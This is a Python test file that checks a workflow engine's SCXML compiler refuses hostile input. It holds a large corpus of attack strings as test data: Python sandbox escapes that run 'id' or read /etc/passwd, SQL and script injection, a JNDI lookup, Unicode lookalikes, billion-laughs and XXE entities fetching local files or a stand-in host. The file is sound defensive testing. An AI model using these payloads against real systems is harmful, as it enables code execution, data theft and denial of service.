"""Definitions written to do harm: refused with their place, or nothing in them but names that nobody answers to.

The corpus is made of payloads and disguises. Nothing in it may be executed, fetched or expanded.
"""

from __future__ import annotations

import re
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest

from saksbehandling.errors import SetupError
from saksbehandling.workflow_engine.compiler import compile_chart
from saksbehandling.workflow_engine.expressions import MAX_DEPTH, MAX_LENGTH, Guard, walk
from saksbehandling.workflow_engine.registry import Registry
from saksbehandling.workflow_engine.source import MAX_BYTES

HEAD = (
    '<scxml xmlns="http://www.w3.org/2005/07/scxml" xmlns:sb="urn:saksbehandling:1" version="1.0" name="proeve" '
    'sb:versjon="1"><sb:tittel nb="Prøve" nn="Prøve" en="Trial"/><sb:rolle navn="skriver" nb="s" nn="s" en="s"/>'
    '<sb:hendelse navn="videre" nb="v" nn="v" en="v"/>\n'
)
TITLE = '<sb:tittel nb="A" nn="A" en="A"/>'
END = f'<final id="slutt">{TITLE}</final></scxml>'
PLACE = re.compile(r"proeve\.scxml:\d+: \S")


def with_cond(cond: str) -> bytes:
    way = f'<transition event="videre" target="slutt" sb:roller="skriver" cond={quoteattr(cond)}/>'
    return f'{HEAD}<state id="a">{TITLE}{way}</state>{END}'.encode()


def refusal(content: bytes) -> str:
    with pytest.raises(SetupError) as caught:
        compile_chart("proeve.scxml", content)
    message = str(caught.value)
    assert PLACE.match(message)
    assert len(message) < 2200
    return message


# What Python, templates, shells and other expression languages would do harm with.
CODE = """
().__class__.__bases__[0].__subclasses__()
''.__class__.__mro__[1]
a.__class__
a.__init__.__globals__
a.__dict__['x']
__import__('os').system('id')
__builtins__.open('/etc/passwd').read()
getattr(a, '__class__')
open('/etc/passwd').read()
eval(compile('1', 'x', 'exec'))
globals()['os']
type('x', (), {})()
lambda: a
(lambda x: x)(1)
(lambda: (yield))()
[x for x in a]
{x for x in a}
{x: x for x in a}
(x for x in a)
[a]
{a}
{'a': 1}
(a, b)
a[0]
a[::]
a['b']
*a
**a
a if b else c
a := 1
a = 1
a == 1
a != 1
a < 1
a >= 1
a is b
a in b
a not in b
a + b
a - b
a * 9
a ** 9
9 ** 9 ** 9
a / b
a // b
a % b
'%s' % a
'x' * 999999999
a @ b
~a
a & b
a && b
a | b
a || b
a ^ b
a << 9
!a
-a
+a
not
and
or
a and
or a
a not b
a b
a, b
a; b
a: b
a\\nb
a # b
a // kommentar
a /* kommentar */
f'{a}'
rb'a'
b'a'
u'a'
f"{a.__class__}"
'{0.__class__}'.format(a)
'%(a)s' % b
{{ a }}
{% import os %}
${a}
#{a}
$(id)
`id`
<% a %>
<script>alert(1)</script>
javascript:alert(1)
1; DROP TABLE flyt
' OR 1=1 --
'; --
await a
async def f(): a
yield a
return a
import os
from os import system
def f(): a
class A: a
raise a
assert a
del a
global a
with a: b
while 1: a
try: a
print a
True == False
...
1
-1
1.0
1e9
1_000
0x1
0b1
1j
true
false
'tekst'
"tekst"
In
In()
In(a)
In(1)
In(true)
In('a', 'slutt')
In('a')('b')
In('a').b
In(In('a'))
In(id='a')
In ['a']
a()()
a(b)
a(b())
a(a.b)
a(1,)
a(,1)
a(1 2)
a(x=1, 2)
a(x=1, x=2)
a(x=y)
a(x==1)
a(x:=1)
a(1=x)
a('x'=1)
a(*b)
a(**b)
a(-)
a(--1)
a(+1)
a(1.5)
a(1e9)
a(0x1)
a(1_0)
a(99999999999999999999)
a(None)
a(not b)
a(1 or 2)
a((1))
a([1])
a({})
a(lambda: 1)
a(f'x')
a('x' 'y')
a('x' + 'y')
a("x'
a('x
a(
a)
)(
(
)
()
((a)
(a))
""".strip().splitlines()

# The same, dressed so that a careless filter lets it through.
LOOKALIKES = [
    "a．__class__",
    "ａ（）",
    "__ｃｌａｓｓ__",
    "𝒶",
    "ª",
    "аnd",
    "a аnd b",
    "a ОR b",
    "nоt a",
    "а()",
    "Ιn('a')",
    "ǃa",
    "a(١)",
    "a(１)",
    "a(²)",
    "a‐b",
    "a\u200bb",
    "a\u200d",
    "\ufeffa",
    "a\u00adb",
    "a\u202eb",
    "\u2066a",
    "a\u2028b",
    "a\u2029",
    "“a”",
    "‘a’",
    "In(‘a’)",
    "a(«x»)",
    "æ",
    "å()",
    "ø and a",
    "a\u0301",
    "ſ",
    "ﬁ()",
    "Ａnd",
    "\U0001d5ee\U0001d5fb\U0001d5f1",
    "\U000e0061",
    "a\U0010ffff",
    "\u0085a\u0085b",
    "",
    " ",
]

TOO_MUCH = [
    "(" * (MAX_DEPTH + 1) + "a" + ")" * (MAX_DEPTH + 1),
    "not " * (MAX_DEPTH + 1) + "a",
    "not(" * MAX_DEPTH + "not a" + ")" * MAX_DEPTH,
    "(" * 400,
    ")" * 400,
    "a" * (MAX_LENGTH + 1),
    "a and " * MAX_LENGTH + "a",
    f"a('{'x' * MAX_LENGTH}')",
    f"a({'9' * 400})",
    f"a({'1,' * 200}",
    "a(" * 200,
    "'" * 399,
    "In('" + "x" * 400 + "')",
    " " * (MAX_LENGTH + 1) + "a",
    "a" * 400_000,
    "(" * 400_000,
]

DISGUISES = ["{}", " {} ", "a and {}", "not ({})", "(a or {})"]


def corpus() -> Iterator[str]:
    for code in [*CODE, *LOOKALIKES]:
        for disguise in DISGUISES:
            yield disguise.format(code.replace("\\n", "\n")) if "{}" not in code else code
    yield from TOO_MUCH


HOSTILE = sorted(set(corpus()))
# Python's own names, and texts, are a guard's name and arguments like any other: nothing happens, and nobody answers.
HARMLESS = """
exec('import os') or a
eval('1')
__import__('os')
open('/etc/passwd')
system('id')
in('a')
__class__
None
_
a('{0.__class__}')
a("' OR 1=1 --")
a('\\x41')
a('%s%s%n')
a('${jndi:ldap://192.0.2.1/x}')
""".strip().splitlines()


def test_the_corpus_is_large() -> None:
    assert len(HOSTILE) > 800


@pytest.mark.parametrize("cond", HOSTILE)
def test_a_hostile_condition_is_refused(cond: str) -> None:
    refusal(with_cond(cond))


@pytest.mark.parametrize("cond", HARMLESS)
def test_names_of_python_s_own_are_guards_that_nobody_registered(cond: str) -> None:
    chart = compile_chart("proeve.scxml", with_cond(cond))
    registry = Registry()
    registry.add(chart)
    guards = [part for cond, _ in chart.conditions for part in walk(cond) if isinstance(part, Guard)]
    assert guards
    assert all(re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", guard.name, re.ASCII) for guard in guards)
    with pytest.raises(SetupError, match="er ikke registrert"):
        registry.check()
    with pytest.raises(SetupError, match="er ikke registrert"):
        registry.ask(guards[0], None)


BODIES = {
    "id": "<state id={}/>",
    "initial": '<state id="a" initial={}><state id="b"/></state>',
    "event": '<state id="a"><transition event={} target="slutt"/></state>',
    "target": '<state id="a"><transition event="videre" target={}/></state>',
    "transition type": '<state id="a"><transition event="videre" type={} target="slutt"/></state>',
    "roles": '<state id="a"><transition event="videre" sb:roller={} target="slutt"/></state>',
    "emergency": '<state id="a"><transition event="videre" sb:noedutgang={} target="slutt"/></state>',
    "raise": '<state id="a"><onentry><raise event={}/></onentry></state>',
    "send": '<state id="a"><onentry><send event={} target="#_parent"/></onentry></state>',
    "send target": '<state id="a"><onentry><send event="e" target={}/></onentry></state>',
    "send delay": '<state id="a"><onentry><send event="e" delay={}/></onentry></state>',
    "send id": '<state id="a"><onentry><send event="e" delay="1d" id={}/></onentry></state>',
    "send expr": '<state id="a"><onentry><send eventexpr={} target="#_parent"/></onentry></state>',
    "send targetexpr": '<state id="a"><onentry><send event="e" targetexpr={}/></onentry></state>',
    "cancel": '<state id="a"><onentry><cancel sendid={}/></onentry></state>',
    "if": '<state id="a"><onentry><if cond={}/></onentry></state>',
    "elseif": '<state id="a"><onentry><if cond="a"><elseif cond={}/></if></onentry></state>',
    "log": '<state id="a"><onentry><log expr={}/></onentry></state>',
    "assign": '<state id="a"><onentry><assign location="a" expr={}/></onentry></state>',
    "foreach": '<state id="a"><onentry><foreach item="a" array={}/></onentry></state>',
    "data": '<datamodel><data id="a" expr={}/></datamodel><state id="a"/>',
    "script": '<script src={}/><state id="a"/>',
    "history": '<state id="a"><history id="h" type={}><transition target="b"/></history><state id="b"/></state>',
    "invoke type": '<state id="a"><invoke type={} src="uttalelse"/></state>',
    "invoke src": '<state id="a"><invoke type="urn:saksbehandling:1" src={}/></state>',
    "invoke srcexpr": '<state id="a"><invoke type="urn:saksbehandling:1" srcexpr={}/></state>',
    "deadline": '<state id="a"><sb:frist navn="f" dager={} hendelse="e"/></state>',
    "deadline name": '<state id="a"><sb:frist navn={} dager="1" hendelse="e"/></state>',
    "deadline event": '<state id="a"><sb:frist navn="f" dager="1" hendelse={}/></state>',
    "permission": '<state id="a"><sb:tillatelse navn={} roller=""/></state>',
    "permission roles": '<state id="a"><sb:tillatelse navn="t" roller={}/></state>',
    "waits": '<state id="a" sb:venter={}/>',
    "role": '<sb:rolle navn={} nb="" nn="" en=""/><state id="a"/>',
}
VALUES = [
    "__import__('os').system('id')",
    "a;b",
    "../../etc/passwd",
    "file:///etc/passwd",
    "http://192.0.2.1/x",
    "javascript:alert(1)",
    "${a}",
    "a\x85b",
    "а",
    "ａ",
    "a\u202eb",
    "x" * 100_000,
    "1e9",
    "-1",
    "٣",
    "'",
]


@pytest.mark.parametrize("value", VALUES)
@pytest.mark.parametrize("attribute", BODIES)
def test_a_hostile_attribute_is_refused(attribute: str, value: str) -> None:
    refusal(f"{HEAD}{BODIES[attribute].format(quoteattr(value))}{END}".encode())


@pytest.mark.parametrize("attribute", ["version", "name", "sb:versjon", "initial"])
@pytest.mark.parametrize("value", VALUES)
def test_a_hostile_attribute_of_the_root_is_refused(attribute: str, value: str) -> None:
    given = {"version": "1.0", "name": "proeve", "sb:versjon": "1", attribute: value}
    attributes = " ".join(f"{key}={quoteattr(each)}" for key, each in given.items())
    spaces = 'xmlns="http://www.w3.org/2005/07/scxml" xmlns:sb="urn:saksbehandling:1"'
    refusal(f'<scxml {spaces} {attributes}><state id="a"/><final id="slutt"/></scxml>'.encode())


def document(body: str) -> str:
    return f"{HEAD}{body}{END}"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ATTRIBUTES = " ".join(f"a{number}=''" for number in range(30_000))
XML = {
    "billion laughs": f'<!DOCTYPE scxml [<!ENTITY l0 "ha">{LAUGHS}]>' + document('<state id="&l9;"/>'),
    "quadratic": f'<!DOCTYPE scxml [<!ENTITY l "{"h" * 50_000}">]>' + document(f'<state id="{"&l;" * 5000}"/>'),
    "recursive": '<!DOCTYPE scxml [<!ENTITY a "&b;"><!ENTITY b "&a;">]>' + document('<state id="&a;"/>'),
    "file": '<!DOCTYPE scxml [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + document('<state id="a">&x;</state>'),
    "net": '<!DOCTYPE scxml [<!ENTITY x SYSTEM "http://192.0.2.1/x">]>' + document('<state id="a">&x;</state>'),
    "parameter": '<!DOCTYPE scxml [<!ENTITY % x SYSTEM "http://192.0.2.1/x"> %x;]>' + document('<state id="a"/>'),
    "DTD outside": '<!DOCTYPE scxml SYSTEM "http://192.0.2.1/x.dtd">' + document('<state id="a"/>'),
    "DTD public": '<!DOCTYPE scxml PUBLIC "-//X" "file:///etc/passwd">' + document('<state id="a"/>'),
    "DTD empty": "<!DOCTYPE scxml>" + document('<state id="a"/>'),
    "default attribute": '<!DOCTYPE scxml [<!ATTLIST state sb:venter CDATA "true">]>' + document('<state id="a"/>'),
    "unknown entity": document('<state id="a">&finnes_ikke;</state>'),
    "XInclude": document('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    "XSLT": document('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>'),
    "no namespace": '<scxml version="1.0" name="p"><state id="a"/></scxml>',
    "element without namespace": document('<state xmlns="" id="a"/>'),
    "other namespace": document('<state xmlns="urn:annet" id="a"/>'),
    "foreign attribute": document('<state id="a" x:y="1" xmlns:x="urn:annet"/>'),
    "javascript": document("<script>alert(1)</script>"),
    "data model": document('<datamodel><data id="a">1</data></datamodel>'),
    "CDATA": document('<state id="a"><![CDATA[<transition/>]]></state>'),
    "two roots": document('<state id="a"/>') * 2,
    "never ends": HEAD + '<state id="a">',
    "crossed": document('<state id="a"><onentry></state></onentry>'),
    "the same attribute twice": document('<state id="a" id="b"/>'),
    "null": document('<state id="a\x00"/>'),
    "control character": document('<state id="a&#1;"/>'),
    "surrogate": document('<state id="a&#xD800;"/>'),
    "deep": document('<state id="a">' * 5000 + "</state>" * 5000),
    "deep conditions": document(
        '<state id="a"><onentry>' + '<if cond="a">' * 5000 + "</if>" * 5000 + "</onentry></state>"
    ),
    "many attributes": document(f"<state id='a' {ATTRIBUTES}/>"),
    "many targets": document(
        '<parallel id="p">' + "".join(f'<state id="a{n}"/>' for n in range(5000)) + "</parallel><state id='b'>"
        f'<transition event="videre" target="{" ".join(f"a{n}" for n in range(5000))}"/></state>'
    ),
    "long name": document(f"<{'x' * 400_000}/>"),
    "long namespace": document(f'<x:y xmlns:x="{"x" * 400_000}"/>'),
    "nothing": "",
    "text": "statusen er ukjent",
    "JSON": '{"scxml": {"state": "a"}}',
    "HTML": "<!DOCTYPE html><html><script>alert(1)</script></html>",
}


@pytest.mark.parametrize("name", XML)
def test_hostile_xml_is_refused(name: str) -> None:
    assert "root:" not in refusal(XML[name].encode())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-7", "cp037"])
def test_an_encoding_is_no_disguise(encoding: str) -> None:
    hidden = f'<?xml version="1.0" encoding="{encoding}"?>' + XML["file"]
    assert "root:" not in refusal(hidden.encode(encoding))


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe\x00",
        b"\x00" * 1000,
        b"\x1f\x8b\x08\x00" * 50,
        b"PK\x03\x04" * 50,
        b"\xef\xbb\xbf",
        HEAD.encode("latin-1"),
    ],
)
def test_bytes_that_are_no_text_are_refused(content: bytes) -> None:
    refusal(content)


@pytest.mark.parametrize("start", [HEAD.encode(), b"<!-- ", XML["billion laughs"].encode(), b""])
def test_a_file_of_ten_megabytes_is_refused_unread(start: bytes) -> None:
    assert f"høyst {MAX_BYTES} byte" in refusal(start + b"x" * 10_000_000)


@pytest.mark.parametrize("name", XML)
def test_memory_stays_bounded(name: str) -> None:
    content = XML[name].encode()
    tracemalloc.start()
    try:
        with pytest.raises(SetupError):
            compile_chart("proeve.scxml", content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 32 * MAX_BYTES


def test_what_lies_beside_a_file_is_never_read(tmp_path: Path) -> None:
    (tmp_path / "hemmelig.txt").write_text("root:x:0:0", encoding="utf-8")
    entity = f'<!DOCTYPE scxml [<!ENTITY x SYSTEM "{(tmp_path / "hemmelig.txt").as_uri()}">]>'
    assert "root:" not in refusal((entity + document('<state id="&x;"/>')).encode())


def test_as_deep_as_the_parser_goes_is_still_compiled() -> None:
    names = [f"s{number}" for number in range(240)]
    body = "".join(f'<state id="{name}">' for name in names) + "</state>" * len(names)
    assert len(compile_chart("proeve.scxml", document(body).encode()).states) == len(names) + 2
